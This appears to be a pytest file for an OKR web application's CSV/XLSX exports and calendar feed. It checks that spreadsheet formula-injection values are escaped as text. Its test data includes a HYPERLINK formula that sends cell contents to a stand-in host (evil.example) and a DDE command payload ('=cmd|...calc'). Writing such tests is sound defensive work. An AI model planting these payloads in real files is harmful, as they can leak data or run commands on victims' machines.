"""Exports as CSV and .xlsx, with formulas neutralised, and the personal calendar feed."""
import csv
import io
from datetime import datetime

from icalendar import Calendar
from openpyxl import load_workbook

from okrapp.core.files.spreadsheets import csv_bytes, neutralised
from okrapp.core.extensions import db
from okrapp.reviews.models import ReviewMeeting, ReviewSchedule
from okrapp.okrs import operations as okrs

from tests.factories import make_key_result, make_user

EVIL = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_dangerous_cells_are_written_as_text():
    for text in EVIL:
        assert neutralised(text) == "'" + text
    assert neutralised("Plain") == "Plain" and neutralised(-5.0) == -5.0
    rows = list(csv.reader(io.StringIO(csv_bytes([["a"], [EVIL[0]], [-5.0]]).decode("utf-8-sig"))))
    assert rows == [["a"], ["'" + EVIL[0]], ["-5"]]


def test_key_results_and_check_ins_export_as_csv_and_xlsx_with_formulas_neutralised(login, clock):
    executive = make_user("executive")
    kr = make_key_result(metric_key="revenue", baseline=3_100_000, target=3_500_000, by=executive)
    kr.title = EVIL[0]
    db.session.commit()
    okrs.record_check_in(kr, 3_300_000, 7, "=cmd|' /C calc'!A0", executive)
    db.session.commit()
    client = login(executive)
    data = client.get(f"/exports/key-results.csv?cycle={kr.objective.cycle_id}")
    assert data.status_code == 200 and data.headers["Content-Disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(data.data.decode("utf-8-sig"))))
    assert rows[0]["Key result"] == "'" + EVIL[0] and rows[0]["Progress"] == "0.5" and rows[0]["Current"] == "3300000"
    workbook = load_workbook(io.BytesIO(client.get(f"/exports/check-ins.xlsx?cycle={kr.objective.cycle_id}").data))
    header, first = list(workbook.active.iter_rows(values_only=True))[:2]
    record = dict(zip(header, first))
    assert record["Key result"] == "'" + EVIL[0] and record["Comment"] == "'=cmd|' /C calc'!A0"
    assert record["Value"] == 3300000
    streamed = client.get(f"/exports/check-ins.csv?cycle={kr.objective.cycle_id}").data.decode("utf-8-sig")
    assert "'=cmd" in streamed and streamed.count("\r\n") == 2


def test_conflict_and_decision_exports_open_for_every_role_that_may_view(login):
    for role in ("executive", "board", "unit_leader"):
        client = login(make_user(role))
        for url in ("/exports/conflicts.csv", "/exports/decisions.xlsx", "/exports"):
            assert client.get(url).status_code == 200, (role, url)
    assert login(make_user("executive")).get("/exports/passwords.csv").status_code == 404


def test_calendar_feed_lists_the_reviews_one_takes_part_in_behind_a_secret_url(login, client, clock):
    member, outsider = make_user("executive", name="Member"), make_user("executive")
    schedule = ReviewSchedule(name="Customer priorities", participants=[member], anchor_on=datetime(2026, 11, 5).date())
    other = ReviewSchedule(name="Board prep", participants=[outsider], anchor_on=datetime(2026, 11, 5).date())
    db.session.add_all([schedule, other])
    db.session.flush()
    for n, (sched, start) in enumerate([(schedule, datetime(2026, 11, 19, 7)), (other, datetime(2026, 11, 20, 7))]):
        db.session.add(ReviewMeeting(schedule=sched, slot=f"s{n}", starts_at=start,
                                     ends_at=start.replace(hour=8), uid=f"review-{n}@okrapp"))
    db.session.commit()
    page = login(member).post("/account/calendar", follow_redirects=True).data.decode()
    url = page.split('<code id="calendar-url">')[1].split("</code>")[0]
    path = url.split("://", 1)[1].split("/", 1)[1]
    feed = client.get("/" + path)
    assert feed.status_code == 200 and feed.mimetype == "text/calendar"
    events = [e for e in Calendar.from_ical(feed.data).walk("VEVENT")]
    assert [str(e["summary"]) for e in events] == ["Customer priorities"]
    assert str(events[0]["uid"]) == "review-0@okrapp"
    login(member).post("/account/calendar")  # a new link ends the old one
    assert client.get("/" + path).status_code == 404
    assert client.get("/calendar/guess.ics").status_code == 404
